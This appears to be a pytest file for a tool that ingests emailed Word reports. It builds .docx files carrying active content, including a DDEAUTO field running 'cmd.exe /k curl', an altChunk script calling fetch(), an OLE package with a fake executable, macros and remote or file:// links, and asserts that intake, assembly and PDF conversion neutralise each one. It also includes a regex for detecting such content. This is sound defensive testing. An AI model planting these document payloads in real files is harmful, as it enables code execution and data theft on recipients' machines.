"""A department's .docx carrying active content, sent as its reply, goes through `ingest`,
placement, `assemble` and the draft's PDF (LibreOffice) and reaches nothing (issue 16).

One test per kind the issue names: each field kind (INCLUDETEXT, INCLUDEPICTURE), DDE,
an OLE "Package" holding an .exe, a nested macro part (an embedded document with
vbaProject.bin), altChunk HTML with a script and a remote picture, pictures linked by
http and by ``file://``, a VML picture, a remote template, a linked sub-document and a
``file://`` hyperlink. Every link points at a loopback HTTP listener the test starts or at
a picture the test planted outside every working folder. For each: the listener receives
no connection during intake, assembly and PDF conversion; the draft holds none of the
active content (unzipped and read); neither the draft nor its PDF holds a byte of the
planted file. (.odt and .rtf: tests/test_converter_sandbox.py.)
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from fixtures.e2e.build import DOCX, mail
from fixtures.e2e.flow import CAMPAIGN, Flow
from fixtures.intake import build
from test_converter_sandbox import (
    Listener,
    Secret,
    _pdf_streams,
    listener,  # noqa: F401  (a fixture, used by name)
    needs_bwrap,
    needs_soffice,
    secret,  # noqa: F401  (a fixture, used by name)
)
from test_document_sanitise import (
    CHUNK_REL,
    IMAGE_REL,
    LINK_REL,
    OLE_REL,
    PACKAGE_REL,
    TEMPLATE_REL,
    base_docx,
    blip_picture,
    complex_field,
    edit,
    macro_docm,
    ole_object,
    run,
    tiny_png,
)

from mailenv import MailEnv
from mailflow import i18n
from mailflow.messages.assemble import MESSAGES as ASSEMBLE_MESSAGES

pytestmark = [pytest.mark.slow, pytest.mark.libreoffice, needs_soffice, needs_bwrap]

SECTION = "1.2.1.2"
SENDER = "qlkh@sokhcn.example"
SUBJECT = "Re: [2023-H1] Báo cáo sơ kết 6 tháng đầu năm 2023"
REPORT_TEXT = (
    "Trong 6 tháng đầu năm 2023, phòng đã tổ chức xét duyệt 12 đề tài cấp tỉnh, nghiệm thu "
    "8 đề tài, phối hợp chặt chẽ với các sở, ngành và địa phương."
)
SUBDOC_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/subDocument"
EXE_MARK = b"This program cannot be run in DOS mode. PLANTED-EXE"


@pytest.fixture(autouse=True)
def _keep_language() -> Iterator[None]:
    before = i18n.get_lang()
    yield
    i18n.set_lang(before)


# --- the hostile reports, one per kind ----------------------------------------------------

Builder = Callable[[bytes, str, Path], bytes]


def _field(instr: str) -> Builder:
    def make(base: bytes, url: str, planted: Path) -> bytes:
        target = instr.format(url=url, path=planted, uri=planted.as_uri())
        return edit(base, body=complex_field(target, run("kết quả cũ")))

    return make


def _ole_package(base: bytes, url: str, planted: Path) -> bytes:
    exe = b"MZ\x90\x00" + EXE_MARK + planted.read_bytes()
    return edit(
        base,
        body=ole_object("Package"),
        rels=(
            ("rId80", IMAGE_REL, "media/preview.png", False),
            ("rId81", OLE_REL, "embeddings/oleObject1.bin", False),
            ("rId82", PACKAGE_REL, "embeddings/setup.exe", False),
        ),
        parts={
            "word/media/preview.png": tiny_png(),
            "word/embeddings/oleObject1.bin": exe,
            "word/embeddings/setup.exe": exe,
        },
        types=(
            '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument'
            '.oleObject"/>',
            '<Default Extension="png" ContentType="image/png"/>',
        ),
    )


def _nested_macro(base: bytes, url: str, planted: Path) -> bytes:
    return edit(
        base,
        body=ole_object("Word.Document.12"),
        rels=(
            ("rId80", IMAGE_REL, "media/preview.png", False),
            ("rId81", PACKAGE_REL, "embeddings/Microsoft_Word_Document.docx", False),
        ),
        parts={
            "word/media/preview.png": tiny_png(),
            "word/embeddings/Microsoft_Word_Document.docx": macro_docm(),
        },
    )


def _altchunk(base: bytes, url: str, planted: Path) -> bytes:
    html = (
        f"<html><head><script>fetch('{url}/script')</script></head><body>"
        "<p>Báo cáo phần chèn: 7 cuộc họp.</p>"
        f"<p><img src='{url}/chunk.png'><img src='{planted.as_uri()}'></p></body></html>"
    )
    return edit(
        base,
        body='<w:altChunk r:id="rId70"/>',
        rels=(("rId70", CHUNK_REL, "chunk.html", False),),
        parts={"word/chunk.html": html.encode()},
        types=('<Override PartName="/word/chunk.html" ContentType="text/html"/>',),
    )


def _picture(link: str, attr: str) -> Builder:
    def make(base: bytes, url: str, planted: Path) -> bytes:
        target = f"{url}/linked.png" if link == "http" else planted.as_uri()
        return edit(
            base,
            body=blip_picture(f'{attr}="rId60"'),
            rels=(("rId60", IMAGE_REL, target, True),),
        )

    return make


def _vml(base: bytes, url: str, planted: Path) -> bytes:
    body = (
        "<w:p><w:r><w:pict><v:shape id='s1' style='width:50pt;height:50pt'>"
        f"<v:imagedata r:id='rId62' o:href='{planted.as_uri()}'/></v:shape>"
        "</w:pict></w:r></w:p>"
    )
    return edit(base, body=body, rels=(("rId62", IMAGE_REL, f"{url}/vml.png", True),))


def _template(base: bytes, url: str, planted: Path) -> bytes:
    return edit(
        base,
        settings='<w:attachedTemplate r:id="rId1"/>',
        settings_rels=(("rId1", TEMPLATE_REL, f"{url}/mau.dotm", True),),
    )


def _subdocument(base: bytes, url: str, planted: Path) -> bytes:
    return edit(
        base,
        body='<w:p><w:subDoc r:id="rId63"/></w:p>',
        rels=(("rId63", SUBDOC_REL, f"{url}/phu-luc.docx", True),),
    )


def _file_hyperlink(base: bytes, url: str, planted: Path) -> bytes:
    return edit(
        base,
        body=f'<w:p><w:hyperlink r:id="rId64">{run("xem tệp")}</w:hyperlink></w:p>',
        rels=(("rId64", LINK_REL, planted.as_uri(), True),),
    )


KINDS: dict[str, Builder] = {
    "includetext-file": _field('INCLUDETEXT "{path}"'),
    "includepicture-http": _field('INCLUDEPICTURE "{url}/field.png" \\d'),
    "includepicture-file": _field('INCLUDEPICTURE "{path}" \\d'),
    "ddeauto": _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k curl {url}/dde"'),
    "ole-package-exe": _ole_package,
    "nested-macro": _nested_macro,
    "altchunk-html": _altchunk,
    "picture-http": _picture("http", "r:embed"),
    "picture-file": _picture("file", "r:link"),
    "vml-picture": _vml,
    "remote-template": _template,
    "subdocument": _subdocument,
    "file-hyperlink": _file_hyperlink,
}

# what must not be anywhere in the draft's XML: links, embeddings, macros, our listener
ACTIVE = re.compile(
    rb"TargetMode=\"External\"|altChunk|aFChunk|OLEObject|oleObject|attachedTemplate|"
    rb"subDoc|vbaProject|file:|127\.0\.0\.1|w:dde"
)
# the only fields a draft may hold are the template's own page numbers
OWN_FIELDS = {b"PAGE", b"NUMPAGES", b"SECTIONPAGES"}


def _fields(xml: bytes) -> set[bytes]:
    """The first word of every field instruction (complex and simple) in the XML."""
    codes = re.findall(rb"<w:instrText[^>]*>([^<]*)<", xml)
    codes += re.findall(rb'<w:fldSimple[^>]*w:instr="([^"]*)"', xml)
    return {c.split()[0].upper() for c in codes if c.split()}


def _draft_xml(data: bytes) -> tuple[list[str], bytes]:
    """The package's names and all its XML markup, the visible text left out (the appendix
    names what was removed in words: "phần chèn altChunk", "vbaProject.bin")."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        names = zf.namelist()
        xml = b"\n".join(zf.read(n) for n in names if n.endswith((".xml", ".rels")))
    return names, re.sub(rb"(<w:t(?:\s[^>]*)?>)[^<]*(</w:t>)", rb"\1\2", xml)


@pytest.mark.parametrize("kind", list(KINDS))
def test_active_content_in_a_reply_reaches_nothing_through_intake_assembly_and_pdf(
    kind: str,
    listener: Listener,  # noqa: F811  (the imported fixture)
    secret: Secret,  # noqa: F811
    tmp_path: Path,
) -> None:
    env = MailEnv("embedded", "127.0.0.1", 1, 1)  # never contacted: ingest reads files
    flow = Flow.create(env, tmp_path)
    title = flow.outline().section(SECTION).title
    report = KINDS[kind](base_docx(title, REPORT_TEXT), listener.url, secret.path)
    saved = tmp_path / "reply.eml"
    saved.write_bytes(
        mail(
            SENDER,
            "baocao@sokhcn.example",
            SUBJECT,
            "Gửi báo cáo.",
            attachments=[("Bao cao QLKH.docx", report, DOCX)],
        )
    )
    flow.run("ingest", str(saved))
    [doc] = flow.query("SELECT status, reason FROM documents WHERE name = 'Bao cao QLKH.docx'")
    if kind == "nested-macro":  # refused at intake: the draft never sees the package
        assert (doc["status"], doc["reason"]) == ("quarantined", "intake.unpack.macros")
    else:
        assert doc["status"] == "ok"
        flow.match()
        for part in flow.current("QLKH"):
            flow.run("place", str(part["id"]), SECTION)
    flow.run("assemble", "--campaign", CAMPAIGN)  # a numbered draft and its PDF
    [row] = flow.query("SELECT path FROM drafts ORDER BY id DESC LIMIT 1")
    out = flow.cfg.archive_dir / row["path"]

    assert listener.connections == []  # intake, assembly and the PDF requested nothing
    draft = out.read_bytes()
    text = build.docx_text(draft)
    with zipfile.ZipFile(io.BytesIO(draft)) as zf:  # tables included (the appendix is one)
        every_text = "".join(
            re.findall(r"<w:t(?:\s[^>]*)?>([^<]*)<", zf.read("word/document.xml").decode())
        )
    if kind != "nested-macro":
        assert REPORT_TEXT in text  # the report itself is in the draft
        # and the appendix tells the Office what was removed from it
        said = {v.partition("{what}")[0] for v in ASSEMBLE_MESSAGES["assemble.sanitised"].values()}
        assert any(s in every_text for s in said), kind
    names, xml = _draft_xml(draft)
    assert ACTIVE.findall(xml) == []
    assert _fields(xml) <= OWN_FIELDS
    assert not [n for n in names if n.startswith("word/embeddings/") or "vbaProject" in n]
    assert secret.absent_from_zip(draft) == []
    assert not any(EXE_MARK in zipfile.ZipFile(io.BytesIO(draft)).read(n) for n in names)
    streams = _pdf_streams(out.with_suffix(".pdf").read_bytes())
    assert secret.marker not in streams and bytes((17, 201, 93)) * 8 not in streams
    assert EXE_MARK not in streams
